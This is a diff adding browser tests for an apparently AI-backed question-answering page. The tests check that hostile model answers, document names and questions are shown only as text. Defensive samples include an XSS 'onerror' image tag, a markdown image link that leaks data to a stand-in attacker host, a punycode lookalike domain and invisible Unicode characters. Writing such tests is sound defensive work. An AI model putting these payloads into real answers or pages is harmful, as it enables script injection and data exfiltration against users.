@@ -1,0 +1,76 @@
+"""Text from documents, names of files and models stays text."""
+
+from html import unescape
+
+import pytest
+
+from tests.browser.conftest import Visiting
+from tests.browser.hostile import ATTACKER, HOSTILE_ANSWER, HOSTILE_HTML
+from tests.openai_replies import Reply, answer
+
+LINKS = "[...document.querySelectorAll('main a:not(.citation)')].map(a => a.href)"
+ELEMENTS = "[...new Set([...document.querySelectorAll('#answer *')].map(each => each.tagName))].sort()"
+
+
+@pytest.mark.parametrize("pieces", ["at once", "a character at a time"])
+def test_a_hostile_answer_is_inert(pieces: str, visiting: Visiting) -> None:
+    reply: Reply = answer(HOSTILE_ANSWER) if pieces == "at once" else answer(*HOSTILE_ANSWER)
+    with visiting(reply) as visit:
+        visit.ask_and_wait("What does the pirate say?")
+        page = visit.page
+        shown = page.text("#answer")
+        seen = page.seen()
+
+        assert [markup for markup in HOSTILE_HTML if unescape(markup) not in shown] == []
+        assert "The end of the hostile answer" in shown
+        assert set(page.value(ELEMENTS)) <= {
+            *("A", "CODE", "DIV", "EM", "H3", "P", "PRE", "SPAN", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR")
+        }
+        assert {link.partition(":")[0] for link in page.value(LINKS)} == {"http"}
+        assert "(attacker.example)" in shown
+        assert "(xn--bnk-6cd.attacker.example)" in shown
+        assert [character for character in "\u202e\u202c\u200b\x1b\U000e0041" if character in shown] == []
+        assert [request for request in seen.requests if not request.startswith(visit.url)] == []
+        assert (seen.dialogs, seen.errors, seen.violations, seen.console) == ([], [], [], [])
+
+
+def test_hostile_documents_and_names_are_shown_as_text(visiting: Visiting) -> None:
+    with visiting(answer("The pirate says so [1] [2].")) as visit:
+        visit.ask_and_wait("What is it that the pirate says, and what is the pirate's name?")
+        page = visit.page
+        seen = page.seen()
+        names = page.texts(".source .document")
+
+        assert "docs/<img src=x onerror=alert(1)>.md" in names
+        assert "docs/pirategnp.md" in names
+        assert any(f"![x](http://{ATTACKER}/?leak)" in excerpt for excerpt in page.texts(".source .excerpt"))
+        assert page.value("document.querySelectorAll('#result :is(img, script, svg, iframe, b)').length") == 0
+        assert [request for request in seen.requests if not request.startswith(visit.url)] == []
+        assert (seen.dialogs, seen.errors, seen.violations, seen.console) == ([], [], [], [])
+
+
+def test_a_hostile_question_is_shown_as_text(visiting: Visiting) -> None:
+    question = "<img src=x onerror=alert(1)> the pirate"
+    with visiting(answer("Yes.")) as visit:
+        visit.ask_and_wait(question)
+
+        assert visit.page.text("#asked") == question
+        assert visit.page.seen().dialogs == []
+
+
+def test_the_policy_would_stop_what_the_page_lets_through(visiting: Visiting) -> None:
+    with visiting(answer("Yes.")) as visit:
+        blocked = visit.page.value(
+            """(() => {
+              const blocked = [];
+              for (const attempt of [
+                () => { document.body.innerHTML = "<b>x</b>"; },
+                () => { document.createElement("script").text = "1"; },
+              ]) {
+                try { attempt(); blocked.push(false); } catch { blocked.push(true); }
+              }
+              return blocked;
+            })()"""
+        )
+
+        assert blocked == [True, True]
